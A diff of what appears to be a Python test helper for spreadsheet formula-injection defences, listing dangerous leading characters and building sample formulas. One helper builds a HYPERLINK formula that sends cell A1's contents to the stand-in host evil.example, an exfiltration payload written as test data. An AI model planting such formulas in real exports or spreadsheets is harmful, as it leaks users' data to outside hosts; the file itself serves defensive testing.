@@ -33,12 +33,12 @@ DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def formula(start: str) -> str:
-    return f'{start}HYPERLINK("http://evil.example/?"&A1,"klik")'
+    return f'{start}HYPERLINK("http://evil.example/?a|b"&A1,"klik")'  # (a | too, as in no code)
 
 
 def short_formula(start: str) -> str:
     """Fits a referral status (12 characters)."""
-    return f"{start}1+2"
+    return f"{start}1|2"
 
 
 def _export_paths() -> list[str]:
